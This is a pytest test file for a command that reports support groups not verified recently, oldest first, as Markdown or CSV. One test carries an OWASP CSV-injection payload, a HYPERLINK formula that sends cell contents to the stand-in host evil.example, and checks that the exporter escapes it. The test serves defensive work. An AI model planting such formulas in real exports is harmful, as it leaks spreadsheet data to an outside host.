"""`invoke stale`: groups not verified recently, oldest first, with their contact, as Markdown or CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil

import pytest
from invoke import Context

import tasks
from commands.stale import stale_groups, stale_report
from tests.conftest import ROOT

TODAY = dt.date(2026, 11, 22)


@pytest.fixture
def content(tmp_path):
    """The sample content with three groups re-dated: one long ago, one at the limit, one just inside it."""
    folder = tmp_path / "content"
    shutil.copytree(ROOT / "content", folder)
    dates = {
        "haifa-hearing-voices": "2024-02-03",
        "eilat-alcohol-peer": "2026-05-22",
        "akko-fathers-group": "2026-05-23",
    }
    for slug, day in dates.items():
        path = folder / "groups" / f"{slug}.yaml"
        lines = [
            f"verified: {day}" if line.startswith("verified:") else line
            for line in path.read_text(encoding="utf-8").split("\n")
        ]
        path.write_text("\n".join(lines), encoding="utf-8")
    return folder


def test_lists_groups_verified_months_ago_oldest_first(content):
    rows = stale_groups(str(content), 6, TODAY)
    slugs = [row["file"].rsplit("/", 1)[1].removesuffix(".yaml") for row in rows]
    verified = [row["verified"] for row in rows]
    assert verified == sorted(verified)
    assert slugs[0] == "haifa-hearing-voices"
    assert rows[0]["months"] == "33"
    assert "eilat-alcohol-peer" in slugs  # exactly six months
    assert "akko-fathers-group" not in slugs  # a day short of six months
    for row in rows:
        assert dt.date.fromisoformat(row["verified"]) <= dt.date(2026, 5, 22)


def test_rows_give_the_contact_and_the_file(content):
    row = stale_groups(str(content), 6, TODAY)[0]
    assert row["group"] == "קבוצת שומעי קולות חיפה"
    assert row["phone"] == "+97245550101"
    assert row["email"] == "voices-haifa@example.org"
    assert row["file"].endswith("groups/haifa-hearing-voices.yaml")
    english = stale_groups(str(content), 6, TODAY, lang="en")[0]
    assert english["group"] == "Haifa Hearing Voices Group"


def test_markdown_table_escapes_pipes():
    rows = [
        dict.fromkeys(["verified", "months", "file", "status", "contact", "phone", "whatsapp", "email", "website"], "x")
    ]
    rows[0]["group"] = "A | B"
    table = stale_report(rows, "markdown").splitlines()
    assert table[0].startswith("| verified | months | group |")
    assert table[1] == "|---|---|---|---|---|---|---|---|---|---|"
    assert "A \\| B" in table[2]


def test_csv_has_a_header_and_one_row_per_group(content):
    rows = stale_groups(str(content), 6, TODAY)
    parsed = list(csv.DictReader(io.StringIO(stale_report(rows, "csv"))))
    assert [r["file"] for r in parsed] == [r["file"] for r in rows]
    assert parsed[0]["phone"] == "'+97245550101"  # kept as text: a spreadsheet would drop the + (or run it)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_start_a_formula(start):
    """OWASP CSV injection: a group name such as =HYPERLINK(...) is shown as text, not run."""
    payload = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    row = dict.fromkeys(
        ["verified", "months", "file", "status", "contact", "phone", "whatsapp", "email", "website"], "x"
    )
    row["group"] = payload
    (parsed,) = csv.DictReader(io.StringIO(stale_report([row], "csv")))
    assert parsed["group"] == "'" + payload
    assert parsed["file"] == "x"


def test_stale_task_prints_the_report(content, monkeypatch, capsys):
    monkeypatch.setitem(tasks.CONFIG, "content", str(content))
    tasks.stale(Context(), months=24, format="markdown", today="2026-11-22")
    out = capsys.readouterr().out
    assert "haifa-hearing-voices.yaml" in out
    assert "1 group(s) not verified in the last 24 months." in out
    tasks.stale(Context(), months=24, format="csv", today="2026-11-22")
    assert capsys.readouterr().out.startswith("verified,months,group,file,")
    with pytest.raises(SystemExit):
        tasks.stale(Context(), format="html")
